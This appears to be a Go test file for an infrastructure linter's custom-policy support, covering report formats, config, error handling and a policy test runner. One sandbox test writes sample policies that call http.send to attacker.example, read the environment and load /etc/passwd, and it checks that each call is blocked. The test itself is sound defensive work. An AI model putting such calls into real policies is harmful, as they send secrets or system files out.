package main

import (
	"bufio"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"testing"

	"github.com/rampart-lint/rampart/lint/report"
)

var (
	customDir = filepath.Join("..", "..", "testdata", "custom-policies")
	fixtures  = filepath.Join(customDir, "fixtures")
)

// expectations reads fixtures/expect.txt: "file:line:col-line:col rule".
func expectations(t *testing.T) []string {
	t.Helper()
	f, err := os.Open(filepath.Join(fixtures, "expect.txt"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out []string
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if line != "" && !strings.HasPrefix(line, "#") {
			out = append(out, line)
		}
	}
	if len(out) == 0 {
		t.Fatal("expect.txt lists no finding")
	}
	sort.Strings(out)
	return out
}

func finding(file string, l1, c1, l2, c2 int, rule string) string {
	return fmt.Sprintf("%s:%d:%d-%d:%d %s", filepath.Base(file), l1, c1, l2, c2, rule)
}

var (
	textLine   = regexp.MustCompile(`(?m)^(\S+):(\d+):(\d+): \w+ .* \[([^\]]+)\]$`)
	githubLine = regexp.MustCompile(`(?m)^::\w+ file=([^,]+),line=(\d+),col=(\d+),endLine=(\d+),endColumn=(\d+),title=([^:]+)::`)
	junitRange = regexp.MustCompile(`^(\S+):(\d+):(\d+)-(\d+):(\d+) `)
)

// findingsIn extracts every finding of a report as "file:range rule". The
// text format shows start positions only; its ends are taken from want.
func findingsIn(t *testing.T, format, out string, want []string) []string {
	t.Helper()
	var got []string
	atoi := func(s string) (n int) { fmt.Sscan(s, &n); return n }
	switch format {
	case "text":
		ends := map[string]string{}
		for _, w := range want {
			start, _, _ := strings.Cut(w, "-")
			ends[start] = w
		}
		for _, m := range textLine.FindAllStringSubmatch(out, -1) {
			start := fmt.Sprintf("%s:%s:%s", filepath.Base(m[1]), m[2], m[3])
			if w, ok := ends[start]; ok && strings.HasSuffix(w, " "+m[4]) {
				got = append(got, w)
			} else {
				got = append(got, start+" "+m[4])
			}
		}
	case "json":
		var doc struct {
			Findings []struct {
				Rule, File string
				Range      struct{ Start, End struct{ Line, Column int } }
			}
		}
		if err := json.Unmarshal([]byte(out), &doc); err != nil {
			t.Fatalf("json: %v", err)
		}
		for _, f := range doc.Findings {
			got = append(got, finding(f.File, f.Range.Start.Line, f.Range.Start.Column, f.Range.End.Line, f.Range.End.Column, f.Rule))
		}
	case "sarif":
		var doc struct {
			Runs []struct {
				Tool struct {
					Driver struct {
						Rules []struct{ ID, HelpURI string }
					}
				}
				Results []struct {
					RuleID    string
					Locations []struct {
						PhysicalLocation struct {
							ArtifactLocation struct{ URI string }
							Region           struct{ StartLine, StartColumn, EndLine, EndColumn int }
						}
					}
				}
			}
		}
		if err := json.Unmarshal([]byte(out), &doc); err != nil || len(doc.Runs) != 1 {
			t.Fatalf("sarif: %v", err)
		}
		described := false
		for _, r := range doc.Runs[0].Tool.Driver.Rules {
			if r.ID == "acme/codebuild-project-tag" && strings.HasPrefix(r.HelpURI, "https://docs.aws.amazon.com/codebuild/") {
				described = true
			}
		}
		if !described {
			t.Errorf("sarif: the custom rule is not in tool.driver.rules with its helpUri")
		}
		for _, r := range doc.Runs[0].Results {
			for _, l := range r.Locations {
				p := l.PhysicalLocation
				got = append(got, finding(p.ArtifactLocation.URI, p.Region.StartLine, p.Region.StartColumn, p.Region.EndLine, p.Region.EndColumn, r.RuleID))
			}
		}
	case "junit":
		var doc struct {
			Suites []struct {
				Cases []struct {
					Failure *struct {
						Type string `xml:"type,attr"`
						Body string `xml:",chardata"`
					} `xml:"failure"`
				} `xml:"testcase"`
			} `xml:"testsuite"`
		}
		if err := xml.Unmarshal([]byte(out), &doc); err != nil {
			t.Fatalf("junit: %v", err)
		}
		for _, s := range doc.Suites {
			for _, c := range s.Cases {
				if c.Failure == nil {
					continue
				}
				m := junitRange.FindStringSubmatch(c.Failure.Body)
				if m == nil {
					t.Fatalf("junit: failure %q has no range", c.Failure.Body)
				}
				got = append(got, finding(m[1], atoi(m[2]), atoi(m[3]), atoi(m[4]), atoi(m[5]), c.Failure.Type))
			}
		}
	case "github":
		for _, m := range githubLine.FindAllStringSubmatch(out, -1) {
			got = append(got, finding(m[1], atoi(m[2]), atoi(m[3]), atoi(m[4]), atoi(m[5]), m[6]))
		}
	default:
		t.Fatalf("no extractor for format %q: add one", format)
	}
	sort.Strings(got)
	return got
}

// TestCustomPolicyEveryFormat: the example custom policy's findings on its
// bad fixtures appear, exactly as expect.txt lists them, in every report
// format; its good fixtures produce nothing.
func TestCustomPolicyEveryFormat(t *testing.T) {
	want := expectations(t)
	bad := []string{filepath.Join(fixtures, "bad.yaml"), filepath.Join(fixtures, "bad.tf")}
	for _, format := range report.Formats {
		t.Run(format, func(t *testing.T) {
			args := append([]string{"lint", "--color", "never", "--format", format, "--policies", customDir}, bad...)
			code, out, errOut := runCLI(t, args...)
			if code != exitFindings {
				t.Fatalf("exit %d, want %d; stderr %s", code, exitFindings, errOut)
			}
			got := findingsIn(t, format, out, want)
			if strings.Join(got, "\n") != strings.Join(want, "\n") {
				t.Errorf("findings:\n%s\nwant:\n%s\noutput:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"), out)
			}
		})
	}
	code, out, errOut := runCLI(t, "lint", "--format", "json", "--policies", customDir,
		filepath.Join(fixtures, "good.yaml"), filepath.Join(fixtures, "good.tf"))
	if code != exitClean || !strings.Contains(out, `"findings": []`) {
		t.Errorf("good fixtures: exit %d, stderr %s\n%s", code, errOut, out)
	}
	// Without the policies, the bad fixtures are clean: the findings are
	// the custom rule's alone.
	if code, out, _ := runCLI(t, append([]string{"lint", "--format", "json"}, bad...)...); code != exitClean {
		t.Errorf("bad fixtures without --policies: exit %d\n%s", code, out)
	}
}

func copyPolicies(t *testing.T, to string) {
	t.Helper()
	err := filepath.WalkDir(customDir, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(p, ".rego") {
			return err
		}
		rel, _ := filepath.Rel(customDir, p)
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		write(t, to, rel, string(b))
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestConfigPolicies: the config's policies: load as --policies does, and a
// directory given both ways is read once.
func TestConfigPolicies(t *testing.T) {
	dir := t.TempDir()
	copyPolicies(t, filepath.Join(dir, "ci", "policies"))
	write(t, dir, ".rampart.yaml", "policies: [ci/policies]\nsettings:\n  acme_required_tags: [Project, Owner]\n")
	b, err := os.ReadFile(filepath.Join(fixtures, "good.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	tmpl := write(t, dir, "stack.yaml", string(b))
	for _, extra := range [][]string{nil, {"--policies", filepath.Join(dir, "ci", "policies")}} {
		args := append([]string{"lint", "--color", "never"}, extra...)
		code, out, errOut := runCLI(t, append(args, tmpl)...)
		want := tmpl + ":16:7: medium CodeBuild project Build has no Owner tag"
		if code != exitFindings || !strings.Contains(out, want) {
			t.Errorf("%v: exit %d, want 1 and %q\nstdout %s\nstderr %s", extra, code, want, out, errOut)
		}
	}
}

func customRule(id, body string) string {
	return fmt.Sprintf(`# METADATA
# title: Test rule
# description: A rule for tests.
# custom:
#   id: %s
#   severity: high
#   kinds: [cloudformation]
#   remediation: Fix it.
package rampart.rules.%s
%s
`, id, strings.ReplaceAll(strings.ReplaceAll(id, "-", "_"), "/", "."), body)
}

// TestCustomPolicySandboxCLI: a custom policy calling a built-in that
// reaches outside stops the run before any file is linted, exit 2, with the
// file, line, column, built-in and reason.
func TestCustomPolicySandboxCLI(t *testing.T) {
	target := filepath.Join(fixtures, "bad.yaml")
	for name, call := range map[string]string{
		"http.send":          `http.send({"method": "GET", "url": "https://attacker.example/?k=x"})`,
		"net.lookup_ip_addr": `net.lookup_ip_addr("attacker.example")`,
		"opa.runtime":        `opa.runtime().env`,
		"json.match_schema":  `json.match_schema({}, {"$ref": "file:///etc/passwd"})`,
	} {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			p := write(t, dir, "acme/exfil.rego", customRule("acme/exfil", "deny contains {\"msg\": sprintf(\"%v\", [x]), \"path\": []} if {\n\tx := "+call+"\n}"))
			code, out, errOut := runCLI(t, "lint", "--policies", dir, target)
			want := p + ":11:7: " + name + " is not allowed: custom policies run sandboxed: no network, no environment, no files ("
			if code != exitError || !strings.Contains(errOut, want) || out != "" {
				t.Errorf("exit %d, stdout %q\nstderr %s\nwant 2 and %q", code, out, errOut, want)
			}
		})
	}
}

// TestCustomPolicyErrorsCLI: broken custom policies are exit 2 with a
// message naming the file, never a panic; a rule failing at evaluation time
// is named and the other rules' findings still come out.
func TestCustomPolicyErrorsCLI(t *testing.T) {
	target := filepath.Join(fixtures, "bad.yaml")
	deny := `deny contains {"msg": "x", "path": []} if input.Resources`
	cases := map[string]struct{ file, src, want string }{
		"missing id":   {"acme/x.rego", strings.Replace(customRule("acme/x", deny), "#   id: acme/x\n", "", 1), "acme/x.rego:8: metadata has no custom.id"},
		"unknown kind": {"acme/x.rego", strings.Replace(customRule("acme/x", deny), "[cloudformation]", "[jenkinsfile]", 1), "acme/x.rego:9: custom.kinds: unknown kind jenkinsfile"},
		"bad severity": {"acme/x.rego", strings.Replace(customRule("acme/x", deny), "high", "urgent", 1), `acme/x.rego:9: custom.severity: unknown severity "urgent"`},
		"built-in id":  {"acme/full_admin.rego", customRule("iam/full-admin", deny), "rule id iam/full-admin is already a built-in rule"},
		"syntax":       {"acme/x.rego", customRule("acme/x", "deny contains x if {"), "acme/x.rego:11: rego_parse_error"},
		"binary":       {"acme/x.rego", "\x7fELF\x02\x01\x01\x00\x00", "acme/x.rego: no package statement"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			write(t, dir, tc.file, tc.src)
			code, _, errOut := runCLI(t, "lint", "--policies", dir, target)
			if code != exitError || !strings.Contains(errOut, tc.want) || strings.Contains(errOut, "panic") {
				t.Errorf("exit %d, stderr %s\nwant 2 and %q", code, errOut, tc.want)
			}
		})
	}

	dir := t.TempDir()
	copyPolicies(t, dir)
	write(t, dir, "acme/conflict.rego", customRule("acme/conflict", "_v := 1 if input.Resources\n_v := 2 if input.Resources\ndeny contains {\"msg\": \"never\", \"path\": []} if _v"))
	code, out, errOut := runCLI(t, "lint", "--color", "never", "--policies", dir, target)
	if code != exitError || !strings.Contains(errOut, "rule acme/conflict") || !strings.Contains(out, "[acme/codebuild-project-tag]") {
		t.Errorf("failing rule: exit %d, want 2 with acme/conflict named and the other findings kept\nstdout %s\nstderr %s", code, out, errOut)
	}
}

func TestRulesAndExplainCustom(t *testing.T) {
	src := filepath.Join(customDir, "acme", "codebuild_project_tag.rego")
	code, out, _ := runCLI(t, "rules", "--policies", customDir)
	if code != 0 || !regexp.MustCompile(`(?m)^acme/codebuild-project-tag \(custom\) +medium +cloudformation,terraform +CodeBuild project without`).MatchString(out) ||
		!regexp.MustCompile(`(?m)^  acme/codebuild-project-tag +`+regexp.QuoteMeta(src)+`$`).MatchString(out) {
		t.Errorf("rules: exit %d\n%s", code, out)
	}
	code, out, _ = runCLI(t, "rules", "--format", "json", "--policies", customDir)
	var rules []struct {
		ID      string `json:"id"`
		Builtin bool   `json:"builtin"`
		Source  string `json:"source"`
	}
	if err := json.Unmarshal([]byte(out), &rules); err != nil || code != 0 {
		t.Fatalf("rules --format json: exit %d, %v", code, err)
	}
	found := false
	for _, r := range rules {
		if r.ID == "acme/codebuild-project-tag" {
			found = !r.Builtin && r.Source == filepath.ToSlash(src)
		}
	}
	if !found {
		t.Errorf("rules --format json: no custom acme/codebuild-project-tag from %s", src)
	}
	code, out, _ = runCLI(t, "explain", "--policies", customDir, "acme/codebuild-project-tag")
	for _, want := range []string{"Source:   custom policy " + src, "acme_required_tags: [\"Project\"]", "Docs: https://docs.aws.amazon.com/codebuild/"} {
		if code != 0 || !strings.Contains(out, want) {
			t.Errorf("explain: missing %q in\n%s", want, out)
		}
	}
}

func TestRampartTest(t *testing.T) {
	code, out, errOut := runCLI(t, "test", customDir)
	if code != exitClean || strings.Count(out, "\nPASS  ")+boolInt(strings.HasPrefix(out, "PASS  ")) != 12 ||
		!strings.Contains(out, "PASS  "+filepath.Join(customDir, "acme", "codebuild_project_tag_test.rego")+":9: test_cfn_project_without_tags_is_reported_on_its_name\n") ||
		!strings.HasSuffix(out, "\n12 passed, 0 failed, 0 errors, 0 skipped\n") {
		t.Errorf("exit %d\nstdout %s\nstderr %s", code, out, errOut)
	}

	code, out, _ = runCLI(t, "test", "--run", "terraform", customDir)
	if code != exitClean || !strings.HasSuffix(out, "\n3 passed, 0 failed, 0 errors, 0 skipped\n") {
		t.Errorf("--run terraform: exit %d\n%s", code, out)
	}
	code, _, errOut = runCLI(t, "test", "--run", "nothing-matches", customDir)
	if code != exitFindings || !strings.Contains(errOut, `no test matches --run "nothing-matches"`) {
		t.Errorf("--run matching nothing: exit %d, stderr %s", code, errOut)
	}

	dir := t.TempDir()
	copyPolicies(t, dir)
	failing := write(t, dir, "acme/more_test.rego", `package acme.more_test

import data.rampart.rules.acme.codebuild_project_tag

test_wrong_expectation if {
	n := count(codebuild_project_tag.deny) with input as {"Resources": {"B": {"Type": "AWS::CodeBuild::Project"}}}
	print("findings:", n)
	n == 0
}

test_quiet if {
	print("only with -v")
}
`)
	code, out, _ = runCLI(t, "test", dir)
	for _, want := range []string{
		"FAIL  " + failing + ":5: test_wrong_expectation\n",
		"      failed at " + failing + ":8: n == 0\n",
		"      findings: 1\n",
		"\n13 passed, 1 failed, 0 errors, 0 skipped\n",
	} {
		if code != exitFindings || !strings.Contains(out, want) {
			t.Errorf("failing test: exit %d, want 1 and %q in\n%s", code, want, out)
		}
	}
	if strings.Contains(out, "only with -v") {
		t.Errorf("print output of a passing test shown without -v:\n%s", out)
	}
	_, out, _ = runCLI(t, "test", "-v", dir)
	if !strings.Contains(out, "      only with -v\n") || !strings.Contains(out, "Enter data.acme.more_test.test_wrong_expectation") {
		t.Errorf("-v: no print output of passing tests or trace of failed ones:\n%s", out)
	}

	write(t, dir, "acme/env_test.rego", "package acme.env_test\n\ntest_env if opa.runtime().env.HOME\n")
	code, _, errOut = runCLI(t, "test", dir)
	if code != exitError || !strings.Contains(errOut, filepath.Join(dir, "acme", "env_test.rego")+":3:13: opa.runtime is not allowed: custom policies run sandboxed") {
		t.Errorf("sandboxed test: exit %d, stderr %s", code, errOut)
	}

	empty := t.TempDir()
	write(t, empty, "lib.rego", "package acme.lib\n\nx := 1\n")
	code, _, errOut = runCLI(t, "test", empty)
	if code != exitFindings || !strings.Contains(errOut, "no tests ran") {
		t.Errorf("no tests: exit %d, stderr %s", code, errOut)
	}
	code, _, errOut = runCLI(t, "test", filepath.Join(empty, "missing"))
	if code != exitError || !strings.Contains(errOut, "no such file or directory") {
		t.Errorf("missing dir: exit %d, stderr %s", code, errOut)
	}
}

func boolInt(b bool) int {
	if b {
		return 1
	}
	return 0
}
